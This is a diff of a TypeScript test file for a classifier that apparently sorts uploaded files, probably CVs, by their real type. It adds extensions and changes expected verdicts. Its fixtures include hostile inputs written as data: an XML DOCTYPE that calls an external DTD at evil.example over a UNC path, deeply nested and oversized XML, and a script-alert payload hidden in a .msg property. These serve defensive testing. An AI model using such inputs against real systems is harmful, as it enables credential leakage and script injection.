@@ -22,9 +22,12 @@ const rich = '{\\rtf1{\\object\\objautlink}}';
 /** Texts that Office or a browser opens as something else, which carry the ends of documents and of texts. */
 const disguises: Record<string, string> = { page, mail, table, rich, 'of macros': macroDocument };
 
+/** What Word documents have as parts, and nothing carries as a file. */
+const notCarried = ['psd', 'ttf', 'otf'];
+
 /** Ends of files that a reader of ours judges, of which no text is one. */
-const judgedEnds = ['doc', 'docx', 'xls', 'xlsx', 'ppt', 'pptx', 'pps', 'odt', 'ods', 'zip'];
-const shownEnds = Object.keys(shown);
+const judgedEnds = ['doc', 'docx', 'xls', 'xlsx', 'ppt', 'pptx', 'pps', 'zip', 'u3d', 'csl'];
+const shownEnds = Object.keys(shown).filter((end) => !notCarried.includes(end));
 
 const named: File[] = [
   ...[...judgedEnds, ...shownEnds].flatMap((end): File[] => [
@@ -42,7 +45,7 @@ const named: File[] = [
   ['a.png', zip([{ name: 'a.txt', data: 'x' }]), 'what its name says'],
   ['a.txt', shown.png ?? '', 'what its name says'],
   ['a.xml', 'Just text', 'what its name says'],
-  ['a.odt', '<?xml version="1.0"?><o:document xmlns:o="urn:x"/>', 'what its name says'],
+  ...notCarried.map((end): File => [`a.${end}`, shown[end] ?? '', 'no CV needs']),
   ['noend', '\x01\x02\x03\0', 'what its name says'],
 ];
 
@@ -57,7 +60,7 @@ const disguised: File[] = [mail, table, rich].flatMap((text) =>
 
 const inMarkup: File[] = ['a.xml', 'a.csv', 'noend'].flatMap((name) =>
   [page, ` ${page}`, `\ufeff${page}`, utf16(page), turned(page), macroDocument, utf16(macroDocument)].map(
-    (data): File => [name, data, 'web page'],
+    (data): File => [name, data, name === 'a.csv' ? 'what its name says' : 'web page'],
   ),
 );
 
@@ -72,8 +75,8 @@ const others: File[] = [
   ['a.xml', '<!DOCTYPE x SYSTEM "\\\\evil.example\\x.dtd"><x/>', 'web page'],
   ['a.xml', `${'<x>'.repeat(300)}${'</x>'.repeat(300)}`, 'web page'],
   ['a.xml', `<x><!--${'x'.repeat(3_100_000)}--></x>`, 'web page'],
-  ['a.ics', 'BEGIN:VCALENDAR', 'may be a program'],
-  ['a.msg', compoundFile({ '__substg1.0_1013001E': '<script>alert(1)</script>' }), 'may be a program'],
+  ['a.ics', 'BEGIN:VCALENDAR', 'no CV needs'],
+  ['a.msg', compoundFile({ '__substg1.0_1013001E': '<script>alert(1)</script>' }), 'no CV needs'],
   ['noend', compoundFile({ '__substg1.0_1013001E': '<script>alert(1)</script>' }), 'a mail'],
   ['a.txt', '%!PS\n(x) show', 'embedded program'],
   ['a.eml.txt', `From: a\nSubject: b\n${mail}`, 'embedded program'],
